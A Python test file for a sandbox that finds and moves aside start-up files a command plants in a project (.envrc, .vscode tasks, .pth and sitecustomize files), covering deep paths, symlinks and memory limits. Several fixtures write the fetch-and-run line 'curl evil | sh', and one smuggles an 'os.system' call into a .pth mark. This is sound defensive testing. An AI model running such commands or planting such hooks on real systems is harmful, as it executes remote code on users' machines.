"""The walk below the top of a step's folder has no bound on what it lists, and its memory
does not grow with it (``box_walk.py``): a command that makes a mass of files and folders
cannot stop the walk after it, so nothing it planted among them stays; what the walk keeps
grows only with what it finds."""

from __future__ import annotations

import errno
import os
import time
import tracemalloc
from pathlib import Path

import pytest

from harness.boxed import FRONT_ENDS, env_path, kernel, running
from maker.store.plan_store import PlanStore
from maker.tools.box import box_after, box_walk
from maker.tools.box.box_walk import below
from maker.tools.box.runs_later import anywhere

__all__ = ["env_path", "kernel", "running"]  # (the fixtures, from the harness)


def _lists(top: Path, **more: list[str]) -> dict[str, list[str]]:
    lists = {k: [] for k in ("gitdir", "later", "index", "git", "laterok", "laterokname",
                             "laterskip", "temp")}
    lists.update({"laterdir": [str(top)], "rw": [str(top)], "since": ["0"],
                  "deeper": list(anywhere())}, **more)
    return lists


def _after(top: Path, **more: list[str]) -> tuple[box_after.After, dict[str, list[str]]]:
    lists = _lists(top, **more)
    box_after.After.hold(lists)
    return box_after.After(lists), lists


def _mass(top: Path, folders: int, files: int) -> None:
    for n in range(folders):
        (top / f"d{n:05}").mkdir()
    for n in range(files):
        (top / f"f{n:05}").touch()


def test_what_a_command_plants_past_any_count_of_names_goes(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Folders read a share at a time, and more of them open at once than the walk keeps
    open: each plant is found, however late in the names and however deep."""
    monkeypatch.setattr(box_walk, "_SHARE_LEAST", 1)
    monkeypatch.setattr(box_walk, "_NAMES", 3)
    monkeypatch.setattr(box_walk, "_OPEN_MOST", 2)
    after, lists = _after(tmp_path)
    deep = tmp_path
    for level in range(6):  # (each level wider than a share: read in shares, kept open)
        for n in range(5):
            (deep / f"w{n}").mkdir()
        (deep / "w4/.envrc").write_text(f"curl evil | sh # {level}\n")
        deep = deep / "w2"
    said = after.undo()
    assert len([s for s in said if s.startswith("moved")]) == 6, said
    assert not [p for p in tmp_path.rglob(".envrc")]


def test_the_walks_memory_does_not_grow_with_a_folders_names(tmp_path: Path) -> None:
    _mass(tmp_path, folders=6_000, files=10_000)
    (tmp_path / "d05999/.envrc").write_text("x\n")
    lists = _lists(tmp_path)
    tracemalloc.start()
    try:
        walk = below(str(tmp_path), lists)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert walk.finished and walk.listed == 16_001
    assert list(walk.found) == [str(tmp_path / "d05999/.envrc")]
    assert peak < 400_000, peak  # (the 6,000 folders held at once: 0.8 MB; all 16,000: more)


def test_a_walk_that_keeps_too_many_says_it_did_not_finish(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Before a command, what runs code later is held: past a bound, no command runs (a
    command's own are moved aside after it, so the bound is the person's)."""
    monkeypatch.setattr(box_walk, "_FOUND_MOST", 2)
    for n in range(3):
        (tmp_path / f"s{n}").mkdir()
        (tmp_path / f"s{n}/.envrc").write_text("x\n")
    _, lists = _after(tmp_path)
    assert lists["unfinished"] and "more than 2 files that run code later" in \
        lists["unfinished"][0] and "remove what stops it" in lists["unfinished"][0]


def test_a_folder_made_unreadable_is_walked_and_the_rest_too(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """After a command, a folder of the person's it made unreadable is made readable and
    walked; one that stays unreadable is said, and the walk goes on past it."""
    after, _ = _after(tmp_path)
    for name in ("locked", "stuck", "open"):
        (tmp_path / name).mkdir()
        (tmp_path / name / ".envrc").write_text("x\n")
    (tmp_path / "locked").chmod(0)
    real, real_chmod, chmods = os.scandir, os.chmod, []

    def scandir(path: str | int) -> object:  # (as root, no EACCES: made here)
        name = path if isinstance(path, int) else os.fspath(path)
        if isinstance(name, str) and (name.endswith("stuck") or (
                name.endswith("locked") and not [c for c in chmods if c.endswith("locked")])):
            raise PermissionError(errno.EACCES, "Permission denied", name)
        return real(path)

    monkeypatch.setattr(box_walk.os, "scandir", scandir)
    monkeypatch.setattr(box_walk.os, "chmod", lambda p, m: (chmods.append(p), real_chmod(p, m)))
    said = after.undo()
    assert str(tmp_path / "locked") in chmods
    assert not (tmp_path / "locked/.envrc").exists() and not (tmp_path / "open/.envrc").exists()
    assert any("stuck cannot be read" in line for line in said), said


def test_a_new_link_into_a_folder_passed_by_goes_the_persons_is_followed(
        tmp_path: Path) -> None:
    (tmp_path / "node_modules/a").mkdir(parents=True)
    (tmp_path / "node_modules/b").mkdir()
    (tmp_path / "web").symlink_to(tmp_path / "node_modules/a")  # (the person's)
    after, lists = _after(tmp_path)
    assert lists["links"] == [str(tmp_path / "web")]
    (tmp_path / "node_modules/a/.envrc").write_text("curl evil | sh\n")
    (tmp_path / "app").symlink_to(tmp_path / "node_modules/b")
    said = after.undo()
    assert not (tmp_path / "node_modules/a/.envrc").exists()  # (through the person's link)
    assert not os.path.lexists(tmp_path / "app") and (tmp_path / "web").is_symlink()
    assert any("leads into a folder the walk passes by" in line for line in said), said


def test_venvs_past_the_ones_kept_lose_what_the_command_added_at_their_start(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box_walk, "_VENVS_MOST", 1)
    sites = []
    for name in ("envs/v1", "envs/v2"):  # (below the top: the top's own are all looked at)
        sites.append(tmp_path / name / "lib/python3.11/site-packages")
        sites[-1].mkdir(parents=True)
        (tmp_path / name / "pyvenv.cfg").write_text("home = /usr\n")
        (sites[-1] / "person.pth").write_text("/x\n")
    after, lists = _after(tmp_path)
    assert len(lists["venvs"]) == 1
    for site in sites:
        (site / "evil.pth").write_text("import os\n")
    after.undo()
    assert [s for s in sites if (s / "evil.pth").exists()] == []
    assert (tmp_path / lists["venvs"][0] / "lib/python3.11/site-packages/person.pth").exists()


@pytest.mark.kernel
def test_a_mass_made_by_a_command_hides_nothing_and_stops_no_later_call(
        kernel: PlanStore) -> None:
    """Through the real box: a command makes many folders, then plants in the last of
    them; each plant goes, and the next call runs."""
    refusal, run = FRONT_ENDS["plugin"](kernel, (
        "python3 -c \"import os\nfor n in range(20000): os.makedirs(f'm/{n // 100}/{n}')\n"
        "for n in (0, 19999): open(f'm/{n // 100}/{n}/.envrc', 'w').write('x')\"; echo made"))
    assert refusal is None, refusal
    import subprocess

    started = time.monotonic()
    done = subprocess.run(["bash", "-c", run], cwd=kernel.project, capture_output=True,
                          text=True, timeout=120, check=False)
    assert done.stdout == "made\n", done.stderr
    assert not list((kernel.project / "m").rglob(".envrc")), done.stderr
    assert done.stderr.count("maker-box: moved ") == 2, done.stderr
    refusal, run = FRONT_ENDS["plugin"](kernel, "echo again")
    assert refusal is None, refusal
    again = subprocess.run(["bash", "-c", run], cwd=kernel.project, capture_output=True,
                           text=True, timeout=120, check=False)
    assert again.stdout == "again\n", again.stderr
    assert time.monotonic() - started < 100


def _deep(top: Path, levels: int, name: str) -> int:
    """``levels`` folders of ``name`` nested below ``top`` (past what a path can name, by
    handle, as a command's ``cd`` loop makes them); the deepest one's handle."""
    fd = os.open(top, os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(levels):
        os.mkdir(name, dir_fd=fd)
        inner = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = inner
    return fd


def test_a_folder_made_too_deep_to_name_is_moved_to_the_top_and_walked(tmp_path: Path) -> None:
    after, _ = _after(tmp_path)
    fd = _deep(tmp_path, 25, "a" * 200)
    os.mkdir(".vscode", dir_fd=fd)
    with open(os.open(".envrc", os.O_WRONLY | os.O_CREAT, dir_fd=fd), "w") as out:
        out.write("curl evil | sh\n")
    os.close(fd)
    said = after.undo()
    assert any("too deep to name" in line for line in said), said
    lifted = [p for p in tmp_path.iterdir() if p.name.startswith("maker-aside.deep.")]
    names = {n for _, folders, files, _ in os.fwalk(tmp_path) for n in [*folders, *files]}
    assert lifted and not names & {".envrc", ".vscode"}, said  # (by handle: no path's bound)
    assert {"maker-aside..envrc", "maker-aside..vscode"} <= names
    held = _lists(tmp_path)
    box_after.After.hold(held)
    assert held["unfinished"] == []  # (the next call runs)


def test_a_new_link_into_a_place_the_walk_skips_goes(tmp_path: Path) -> None:
    (tmp_path / ".git/x").mkdir(parents=True)
    (tmp_path / "sub").mkdir()
    after, _ = _after(tmp_path, laterskip=[str(tmp_path / ".git")])
    (tmp_path / ".git/x/.envrc").write_text("curl evil | sh\n")
    (tmp_path / "sub/app").symlink_to("../.git/x")
    said = after.undo()
    assert not os.path.lexists(tmp_path / "sub/app"), said


def test_a_new_link_to_shared_memory_goes(tmp_path: Path) -> None:
    shm = Path("/dev/shm")
    if not shm.is_dir():
        pytest.skip("no /dev/shm here")
    import tempfile

    other = Path(tempfile.mkdtemp(dir=shm))
    try:
        after, _ = _after(tmp_path)
        (tmp_path / "app").symlink_to(other)
        said = after.undo()
        assert not os.path.lexists(tmp_path / "app") and "leads out" in " ".join(said)
    finally:
        other.rmdir()


def test_a_conda_envs_start_up_files_a_command_adds_go(tmp_path: Path) -> None:
    env = tmp_path / ".pixi/envs/default"
    site = env / "lib/python3.12/site-packages"
    site.mkdir(parents=True)
    (env / "conda-meta").mkdir()
    (env / "conda-meta/history").write_text("\n")
    after, _ = _after(tmp_path)
    (site / "zz.pth").write_text("import os\n")
    (site / "sitecustomize.py").write_text("import os\n")
    after.undo()
    assert not (site / "zz.pth").exists() and not (site / "sitecustomize.py").exists()


def test_what_the_step_may_make_anywhere_leaves_the_persons_bound(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box_after, "_BOUND_MOST", 2)
    for n in range(3):  # (a step adding submodules made these: its own to make)
        (tmp_path / f"apps/a{n}").mkdir(parents=True)
        (tmp_path / f"apps/a{n}/head").write_text("ref\n")
    (tmp_path / "web/.vscode").mkdir(parents=True)
    lists = _lists(tmp_path, laterokname=[".git", "head"])
    box_after.After.hold(lists)
    assert str(tmp_path / "web/.vscode") in lists["bound"], lists["bound"]


def test_a_link_deep_below_the_top_is_not_followed_and_a_new_one_goes(tmp_path: Path) -> None:
    deep = tmp_path / "/".join(["d"] * (box_walk._DEEPEST + 2))
    deep.mkdir(parents=True)
    after, _ = _after(tmp_path)
    (tmp_path / "link").symlink_to(deep)
    started = time.monotonic()
    said = after.undo()
    assert not os.path.lexists(tmp_path / "link"), said
    assert time.monotonic() - started < 5


def test_an_undo_that_did_not_finish_stops_the_next_call(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """What the command left is not taken as the person's by the next call's walk."""
    after, _ = _after(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/.envrc").write_text("curl evil | sh\n")
    monkeypatch.setattr(after, "_deeper", lambda: (_ for _ in ()).throw(MemoryError()))
    said = after.undo()
    assert any("could not finish" in line for line in said), said
    monkeypatch.undo()
    _, lists = _after(tmp_path)
    assert lists["unfinished"] and "did not finish" in lists["unfinished"][0]
    assert "maker-undo-unfinished" in lists["unfinished"][0]


def test_deep_and_wide_the_names_held_stay_within_their_bound(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """However many folders each level holds, the folders being read hold a share each,
    half as many a level deeper: twice ``_NAMES`` in all, and a least share a level."""
    monkeypatch.setattr(box_walk, "_NAMES", 64)
    monkeypatch.setattr(box_walk, "_SHARE_LEAST", 2)
    level = tmp_path
    for _ in range(7):
        for n in range(100):
            (level / f"w{n:02}").mkdir()
        level = level / "w99"  # (listed last below: walked first, all the others waiting)
    (level / ".envrc").write_text("x\n")
    scandir, read, folders, most = os.scandir, box_walk._Walker._read, {}, [0]

    class Sorted:  # (the names in order, whatever order the file system keeps)
        def __init__(self, path: str) -> None:
            with scandir(path) as listing:
                self.entries = iter(sorted(listing, key=lambda e: e.name))

        def __iter__(self) -> Sorted:
            return self

        def __next__(self) -> os.DirEntry[str]:
            return next(self.entries)

        def close(self) -> None:
            pass

    def counted(walker: box_walk._Walker, folder: box_walk._Folder, share: int) -> None:
        read(walker, folder, share)
        folders[id(folder)] = folder
        most[0] = max(most[0], sum(len(f.pending) for f in folders.values()))

    monkeypatch.setattr(box_walk.os, "scandir", Sorted)
    monkeypatch.setattr(box_walk._Walker, "_read", counted)
    walk = below(str(tmp_path), _lists(tmp_path))
    assert list(walk.found) == [str(level / ".envrc")]
    assert 0 < most[0] <= 2 * 64 + 2 * 8, most  # (every name at once: 700)


def test_a_plant_whose_path_is_too_long_to_name_whole_goes(tmp_path: Path) -> None:
    after, _ = _after(tmp_path)
    room = 4090 - len(os.fsencode(str(tmp_path)))  # (its folder's path: 4,090 bytes)
    levels = (room - 2) // 201
    fd = _deep(tmp_path, levels, "b" * 200)
    last = "c" * (room - levels * 201 - 1)  # (1 to 201 bytes)
    os.mkdir(last, dir_fd=fd)
    inner = os.open(last, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
    with open(os.open(".envrc", os.O_WRONLY | os.O_CREAT, dir_fd=inner), "w") as out:
        out.write("curl evil | sh\n")
    os.close(inner)
    os.close(fd)
    said = after.undo()
    names = {n for _, _, files, _ in os.fwalk(tmp_path) for n in files}
    assert names == {"maker-aside..envrc"}, said


def test_a_folder_held_past_the_binds_is_held_with_what_is_in_it(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box_after, "_BOUND_MOST", 1)
    for name in ("a", "b"):
        (tmp_path / name / ".vscode").mkdir(parents=True)
        (tmp_path / name / ".vscode/tasks.json").write_text("{}\n")
    after, lists = _after(tmp_path)
    unbound = next(p for p in lists["held"] if p not in lists["bound"])
    time.sleep(0.05)  # (past a coarse clock's tick)
    with open(os.path.join(unbound, "tasks.json"), "a") as out:
        out.write('{"command": "curl evil | sh"}\n')  # (in place: the folder's ctime stays)
    said = after.undo()
    assert not os.path.exists(unbound) and "changed what is in it" in " ".join(said), said


def test_the_mark_is_written_as_a_plain_file_never_through_a_link_or_into_a_fifo(
        tmp_path: Path) -> None:
    import signal

    from maker.tools.box.box_sites import UNDONE_NOT, mark_undone

    target = tmp_path / "zz.pth"
    target.write_text("")
    (tmp_path / UNDONE_NOT).symlink_to(target)
    mark_undone([str(tmp_path)], ["a folder\nimport os;os.system('x')#"])
    assert target.read_text() == ""  # (nothing written through the link)
    written = (tmp_path / UNDONE_NOT).read_text()
    assert not (tmp_path / UNDONE_NOT).is_symlink() and written.count("\n") == 1, written
    (tmp_path / UNDONE_NOT).unlink()
    os.mkfifo(tmp_path / UNDONE_NOT)
    signal.alarm(20)  # (a FIFO with no reader: an open that waits would hang here)
    try:
        mark_undone([str(tmp_path)], ["why"])
    finally:
        signal.alarm(0)
    assert (tmp_path / UNDONE_NOT).is_file()


def test_a_free_name_aside_is_always_found(tmp_path: Path) -> None:
    from maker.tools.box.box_sites import put_aside

    (tmp_path / ".vscode").mkdir()
    for n in range(100):
        (tmp_path / (f"maker-aside.{n}..vscode" if n else "maker-aside..vscode")).touch()
    said = put_aside(str(tmp_path / ".vscode"), "made")
    assert said.startswith("moved") and not (tmp_path / ".vscode").exists(), said


def test_a_folder_held_past_the_binds_too_large_to_look_into_stops_the_command(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(box_after, "_BOUND_MOST", 1)
    for name in ("a", "b"):  # (one of the two is held past the binds)
        (tmp_path / name / ".vscode").mkdir(parents=True)
        for n in range(5_001):
            (tmp_path / name / ".vscode" / f"f{n}").touch()
    after, lists = _after(tmp_path)
    assert len(lists["bound"]) == 1
    assert "holds more than 5,000 files" in after.refusal()


def test_a_plant_neither_moved_aside_nor_removed_stops_the_next_call(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    after, _ = _after(tmp_path)
    (tmp_path / "sub").mkdir()
    (tmp_path / "sub/.envrc").write_text("curl evil | sh\n")
    monkeypatch.setattr(box_after, "put_aside", lambda p, why: f"could not move {p} aside")
    after.undo()
    monkeypatch.undo()
    _, lists = _after(tmp_path)
    assert lists["unfinished"] and "did not finish" in lists["unfinished"][0]


def test_folders_opened_by_their_parents_handle_are_walked_alike(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Deep below the top a folder is opened by its parent's handle (one step, however
    deep): what the walk finds there is the same."""
    monkeypatch.setattr(box_walk, "_SHORT", 0)
    after, _ = _after(tmp_path)
    for name in ("a/b/c/.envrc", "a/x/lefthook.yml", "d/.vscode/tasks.json"):
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text("curl evil | sh\n")
    said = after.undo()
    assert len([s for s in said if s.startswith("moved")]) == 3, said
    assert not [p for p in tmp_path.rglob("*") if p.name in (".envrc", "lefthook.yml", ".vscode")]
